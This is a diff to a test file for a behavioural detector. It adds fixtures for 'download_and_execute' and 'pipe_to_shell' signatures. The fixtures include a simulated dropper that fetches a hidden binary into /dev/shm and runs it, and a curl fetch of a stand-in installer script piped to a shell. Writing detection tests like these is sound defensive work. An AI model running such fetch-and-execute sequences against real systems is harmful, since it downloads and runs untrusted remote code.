@@ -32,9 +32,46 @@ describe('execution signatures', () => {
     },
     {
       signature: 'download_and_execute',
+      title: 'a binary fetched into /dev/shm and run from there',
+      scenario: () => ({
+        events: new EventLog()
+          .exec(314, '/tmp/dropper', ['/tmp/dropper'])
+          .connect(314, '198.51.100.20', 80)
+          .write(314, '/dev/shm/.x')
+          .add(314, { kind: 'file.chmod', path: '/dev/shm/.x', mode: 0o700, ret: 0 })
+          .exec(315, '/dev/shm/.x', ['/dev/shm/.x']),
+      }),
+    },
+    {
+      signature: 'download_and_execute',
       title: 'a file copied locally, not downloaded, then run',
       matches: false,
       scenario: () => ({ events: new EventLog().exec(312, '/bin/cp', ['cp', '/bin/true', '/opt/t']).write(312, '/opt/t').exec(313, '/opt/t', ['/opt/t']) }),
+    },
+    {
+      signature: 'pipe_to_shell',
+      title: 'a script running curl URL | sh itself: the fetcher and a shell reading stdin, side by side',
+      scenario: () => ({
+        events: new EventLog()
+          .exec(330, '/bin/bash', ['/bin/bash', '/tmp/x.sh'])
+          .fork(330, 331)
+          .fork(330, 332)
+          .exec(331, '/usr/bin/curl', ['curl', '-fsSL', 'http://get.stager.test/install.sh'])
+          .exec(332, '/bin/sh', ['sh']),
+      }),
+    },
+    {
+      signature: 'pipe_to_shell',
+      title: 'a script that downloads to a file and runs a local script',
+      matches: false,
+      scenario: () => ({
+        events: new EventLog()
+          .exec(333, '/bin/bash', ['/bin/bash', '/tmp/x.sh'])
+          .fork(333, 334)
+          .fork(333, 335)
+          .exec(334, '/usr/bin/curl', ['curl', '-fsSL', '-o', '/tmp/page', 'http://example.test/'])
+          .exec(335, '/bin/sh', ['sh', '/opt/setup.sh']),
+      }),
     },
     {
       signature: 'pipe_to_shell',
